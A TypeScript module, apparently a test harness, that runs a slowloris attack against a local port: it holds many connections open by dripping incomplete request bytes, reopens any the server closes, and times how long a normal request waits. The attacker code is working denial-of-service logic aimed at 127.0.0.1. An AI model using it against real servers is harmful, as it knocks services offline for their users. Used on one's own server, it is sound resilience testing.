/**
 * A slowloris attacker and a stopwatch client, over real sockets. The attacker keeps `count`
 * connections open to a port, each sending the first bytes of a request one byte at a time and
 * never finishing it; when the server closes one, it opens another (as an attacker would). The
 * client measures how long a new, well-behaved connection waits for the answer to one request.
 */
import { connect, type Socket } from 'node:net';

export interface Slowloris {
  /** Connections currently open (connected and not closed). */
  readonly open: number;
  /** Connections the server closed so far. */
  readonly closedByServer: number;
  /** Resolves once `count` connections are open and each has sent its first byte. */
  ready(): Promise<void>;
  stop(): void;
}

/**
 * Opens `count` connections that each send `prefix` one byte every `byteEveryMs` (never the whole
 * request), reopening any the server closes.
 */
export function startSlowloris(port: number, count: number, prefix: Uint8Array, byteEveryMs: number): Slowloris {
  const sockets = new Set<Socket>();
  let stopped = false;
  let open = 0;
  let closedByServer = 0;
  let waiter: (() => void) | undefined;
  const check = (): void => {
    if (open >= count && waiter !== undefined) {
      const resolve = waiter;
      waiter = undefined;
      resolve();
    }
  };
  const launch = (): void => {
    if (stopped) return;
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    sockets.add(socket);
    let sent = 0;
    let timer: ReturnType<typeof setInterval> | undefined;
    let counted = false;
    const sendByte = (): void => {
      // Never send the last byte: the request stays incomplete forever.
      if (sent < prefix.length - 1) socket.write(prefix.subarray(sent, sent + 1));
      sent += 1;
    };
    socket.on('error', () => {});
    socket.on('connect', () => {
      sendByte();
      open += 1;
      counted = true;
      timer = setInterval(sendByte, byteEveryMs);
      check();
    });
    socket.on('close', () => {
      if (timer !== undefined) clearInterval(timer);
      sockets.delete(socket);
      if (counted) open -= 1;
      if (stopped) return;
      closedByServer += 1;
      launch();
    });
  };
  for (let i = 0; i < count; i += 1) launch();
  return {
    get open() {
      return open;
    },
    get closedByServer() {
      return closedByServer;
    },
    ready: () =>
      new Promise<void>((resolve) => {
        waiter = resolve;
        check();
      }),
    stop: () => {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

/**
 * Connects, sends `request` and resolves with the ms until `answerLength` bytes came back, or
 * undefined when the server closed the connection first or nothing came within `limitMs`.
 */
export async function timeToAnswer(port: number, request: Uint8Array, answerLength: number, limitMs: number): Promise<number | undefined> {
  const started = performance.now();
  const socket = connect({ port, host: '127.0.0.1', noDelay: true });
  socket.on('error', () => {});
  try {
    await new Promise<void>((resolve) => {
      socket.once('connect', () => resolve());
      socket.once('close', () => resolve());
    });
    if (socket.destroyed) return undefined;
    socket.write(request);
    return await new Promise<number | undefined>((resolve) => {
      let received = 0;
      const timer = setTimeout(() => resolve(undefined), Math.max(0, limitMs - (performance.now() - started)));
      socket.on('data', (chunk: Buffer) => {
        received += chunk.length;
        if (received >= answerLength) {
          clearTimeout(timer);
          resolve(performance.now() - started);
        }
      });
      socket.on('close', () => {
        clearTimeout(timer);
        resolve(undefined);
      });
    });
  } finally {
    socket.destroy();
  }
}
